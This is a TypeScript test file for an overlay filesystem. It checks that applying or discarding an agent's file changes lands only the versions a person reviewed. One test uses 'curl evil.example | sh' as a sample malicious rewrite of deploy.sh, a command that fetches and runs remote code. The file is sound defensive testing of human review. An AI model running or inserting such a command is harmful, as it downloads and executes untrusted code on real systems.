import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { resolveWorkspacePath, ROOT_PATH, type FileSystemProviderV1 } from '@libos/core';
import { createMemfsProvider } from '@libos/provider-memfs';
import { afterEach, describe, expect, it } from 'vitest';
import { openOverlay, type Overlay } from '../src/index.js';

// docs/overlay.md, "Versions": the bytes that land are exactly the bytes shown, or nothing lands.

const path = (text: string) => resolveWorkspacePath(ROOT_PATH, text);
const bytes = (text: string) => new TextEncoder().encode(text);

async function lowerText(lower: FileSystemProviderV1, name: string): Promise<string | null> {
  try {
    return new TextDecoder().decode((await lower.readFile(path(name), { maxBytes: 1 << 20 })).bytes);
  } catch {
    return null;
  }
}

const opened: Overlay[] = [];
const dirs: string[] = [];
afterEach(async () => {
  for (const overlay of opened.splice(0)) await overlay.close();
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

/** A lower whose `stat` of `trigger`, once armed, first runs `hook` once: a moment inside an apply. */
function hookedLower(lower: FileSystemProviderV1, trigger: string, hook: () => Promise<void>, armed: () => boolean): FileSystemProviderV1 {
  let fired = false;
  return new Proxy(lower, {
    get(target, key, receiver) {
      if (key !== 'stat') return Reflect.get(target, key, receiver);
      return async (at: Parameters<FileSystemProviderV1['stat']>[0]) => {
        if (at === trigger && armed() && !fired) {
          fired = true;
          await hook();
        }
        return target.stat(at);
      };
    },
  });
}

async function setUp(files: Record<string, string>, hook?: { trigger: string; run: (other: Overlay) => Promise<void> }) {
  const memfs = createMemfsProvider();
  for (const [name, content] of Object.entries(files)) await memfs.writeFile(path(name), bytes(content), { overwrite: true });
  const dir = mkdtempSync(join(tmpdir(), 'libos-shown-'));
  dirs.push(dir);
  const state = join(dir, 'state.overlay');
  // A second opening of the same state is another process: its writes are not queued behind ours.
  let other: Overlay | undefined;
  let armed = false;
  const lower =
    hook === undefined
      ? memfs
      : hookedLower(
          memfs,
          hook.trigger,
          () => hook.run(other as Overlay),
          () => armed,
        );
  const overlay = await openOverlay({ lower, state });
  other = await openOverlay({ lower: memfs, state });
  opened.push(overlay, other);
  const arm = () => {
    armed = true;
  };
  return { lower: memfs, overlay, agent: overlay.provider, other, arm };
}

describe('apply and discard hold to the versions shown', () => {
  it('refuses a change the agent rewrote after it was shown, and lands the one that did not move', async () => {
    const { lower, overlay, agent } = await setUp({ 'deploy.sh': 'echo ok\n', 'notes.txt': 'a' });
    await agent.writeFile(path('deploy.sh'), bytes('echo safe\n'), { overwrite: true });
    await agent.writeFile(path('notes.txt'), bytes('b'), { overwrite: true });
    const shown = (await overlay.diff()).versions.map((item) => item.version);
    expect(shown).toHaveLength(2);
    await agent.writeFile(path('deploy.sh'), bytes('curl evil.example | sh\n'), { overwrite: true });
    const result = await overlay.apply({ shown });
    expect(result.applied).toEqual(['notes.txt']);
    const now = (await overlay.changes()).changes[0]!;
    expect(result.conflicts).toEqual([
      { path: 'deploy.sh', reason: 'changed_since_shown', expected_sha256: null, actual_sha256: null, version: now.version },
    ]);
    expect(await lowerText(lower, 'deploy.sh')).toBe('echo ok\n');
    expect(await lowerText(lower, 'notes.txt')).toBe('b');
    // Shown again, it lands.
    expect((await overlay.apply({ paths: ['deploy.sh'], shown: [now.version] })).applied).toEqual(['deploy.sh']);
    expect(await lowerText(lower, 'deploy.sh')).toBe('curl evil.example | sh\n');
  });

  it('applies nothing of "all" when a fifth change came after the listing of four', async () => {
    const { lower, overlay, agent } = await setUp({ 'a.txt': '1' });
    for (const name of ['a.txt', 'b.txt', 'c.txt', 'd.txt']) await agent.writeFile(path(name), bytes('agent'), { overwrite: true });
    const listed = await overlay.changes();
    expect(listed.changes).toHaveLength(4);
    await agent.writeFile(path('e.txt'), bytes('unseen'), { overwrite: false });
    const result = await overlay.apply({ shownSet: listed.set_version as string, mode: 'all_or_nothing' });
    expect(result).toEqual({ apply_id: null, applied: [], conflicts: [expect.objectContaining({ path: '.', reason: 'changed_since_shown' })] });
    expect(await lowerText(lower, 'a.txt')).toBe('1');
    expect(await lowerText(lower, 'e.txt')).toBeNull();
    expect((await overlay.changes()).changes).toHaveLength(5);
    // Per file too: a set that moved lands nothing.
    expect((await overlay.apply({ shownSet: listed.set_version as string })).applied).toEqual([]);
    const again = await overlay.changes();
    expect((await overlay.apply({ shownSet: again.set_version as string })).applied).toHaveLength(5);
  });

  it('holds when another process rewrites a change while the apply runs, after the selection was read', async () => {
    const { lower, overlay, agent, arm } = await setUp(
      { 'a.txt': 'a0', 'b.txt': 'b0' },
      { trigger: 'a.txt', run: (other) => other.provider.writeFile(path('b.txt'), bytes('b-unseen'), { overwrite: true }).then(() => undefined) },
    );
    await agent.writeFile(path('a.txt'), bytes('a1'), { overwrite: true });
    await agent.writeFile(path('b.txt'), bytes('b1'), { overwrite: true });
    const listed = await overlay.changes();
    arm();
    const result = await overlay.apply({ shown: listed.changes.map((change) => change.version) });
    expect(result.applied).toEqual(['a.txt']);
    expect(result.conflicts.map((conflict) => [conflict.path, conflict.reason])).toEqual([['b.txt', 'changed_since_shown']]);
    expect(await lowerText(lower, 'b.txt')).toBe('b0');
  });

  it('with a set version, a rewrite during the apply lands nothing at all', async () => {
    const { lower, overlay, agent, arm } = await setUp(
      { 'a.txt': 'a0', 'b.txt': 'b0' },
      { trigger: 'a.txt', run: (other) => other.provider.writeFile(path('b.txt'), bytes('b-unseen'), { overwrite: true }).then(() => undefined) },
    );
    await agent.writeFile(path('a.txt'), bytes('a1'), { overwrite: true });
    await agent.writeFile(path('b.txt'), bytes('b1'), { overwrite: true });
    const listed = await overlay.changes();
    arm();
    const result = await overlay.apply({ shownSet: listed.set_version as string });
    expect(result.applied).toEqual([]);
    expect(result.conflicts.map((conflict) => [conflict.path, conflict.reason])).toEqual([['b.txt', 'changed_since_shown']]);
    expect(await lowerText(lower, 'a.txt')).toBe('a0');
    expect(await lowerText(lower, 'b.txt')).toBe('b0');
  });

  it('says a change the person was shown and that is gone since is a conflict, not a silent success', async () => {
    const { overlay, agent } = await setUp({ 'a.txt': 'a0' });
    await agent.writeFile(path('a.txt'), bytes('a1'), { overwrite: true });
    const [change] = (await overlay.changes()).changes;
    await agent.writeFile(path('a.txt'), bytes('a0'), { overwrite: true }); // back to its base: no change
    const result = await overlay.apply({ paths: ['a.txt'], shown: [change!.version] });
    expect(result.conflicts).toEqual([expect.objectContaining({ path: 'a.txt', reason: 'changed_since_shown', version: null })]);
  });

  it('discards only what was shown, and nothing of a set that moved', async () => {
    const { overlay, agent } = await setUp({ 'a.txt': 'a0', 'b.txt': 'b0' });
    await agent.writeFile(path('a.txt'), bytes('a1'), { overwrite: true });
    await agent.writeFile(path('b.txt'), bytes('b1'), { overwrite: true });
    const listed = await overlay.changes();
    await agent.writeFile(path('b.txt'), bytes('b2'), { overwrite: true });
    expect(await overlay.discard({ shownSet: listed.set_version as string })).toEqual({
      discarded: [],
      conflicts: [expect.objectContaining({ path: '.', reason: 'changed_since_shown' })],
    });
    const result = await overlay.discard({ paths: ['a.txt', 'b.txt'], shown: listed.changes.map((change) => change.version) });
    expect(result.discarded).toEqual(['a.txt']);
    expect(result.conflicts.map((conflict) => [conflict.path, conflict.reason])).toEqual([['b.txt', 'changed_since_shown']]);
    expect((await overlay.changes()).changes.map((change) => change.path)).toEqual(['b.txt']);
    // A change below a shown directory that the person never saw keeps the directory's discard from happening.
    await agent.writeFile(path('dir/seen.txt'), bytes('s'), { overwrite: false });
    const dirShown = (await overlay.diff({ paths: ['dir'] })).versions.map((item) => item.version);
    await agent.writeFile(path('dir/unseen.txt'), bytes('u'), { overwrite: false });
    expect((await overlay.discard({ paths: ['dir'], shown: dirShown })).discarded).toEqual([]);
    expect((await overlay.changes()).changes.map((change) => change.path)).toEqual(['b.txt', 'dir', 'dir/seen.txt', 'dir/unseen.txt']);
  });

  it('refuses versions in any other form, changing nothing', async () => {
    const { overlay, agent } = await setUp({ 'a.txt': 'a0' });
    await agent.writeFile(path('a.txt'), bytes('a1'), { overwrite: true });
    await expect(overlay.apply({ shown: ['abc'] })).rejects.toMatchObject({ code: 'invalid_arguments' });
    await expect(overlay.apply({ shownSet: `c-${'0'.repeat(32)}` })).rejects.toMatchObject({ code: 'invalid_arguments' });
    await expect(overlay.discard({ shown: [`s-${'0'.repeat(32)}`] })).rejects.toMatchObject({ code: 'invalid_arguments' });
    expect((await overlay.changes()).changes).toHaveLength(1);
  });

  it('gives the set version once, on the first page, over every change, and the diff agrees with it', async () => {
    const { overlay, agent } = await setUp({});
    for (const name of ['a', 'b', 'c']) await agent.writeFile(path(`d/${name}`), bytes(name), { overwrite: false });
    const first = await overlay.changes({ limit: 2 });
    expect(first.set_version).toMatch(/^s-[0-9a-f]{32}$/u);
    expect((await overlay.changes({ limit: 2, cursor: first.next_cursor as string })).set_version).toBeNull();
    const diff = await overlay.diff();
    expect(diff.set_version).toBe(first.set_version);
    expect(diff.versions.map((item) => item.path)).toEqual(['d', 'd/a', 'd/b', 'd/c']);
    // A diff of one file names the new directory above it too, which an apply of that file lands.
    expect((await overlay.diff({ paths: ['d/a'] })).versions.map((item) => item.path)).toEqual(['d', 'd/a']);
    expect((await overlay.diff({ maxBytes: 10 })).set_version).toBeNull();
  });
});
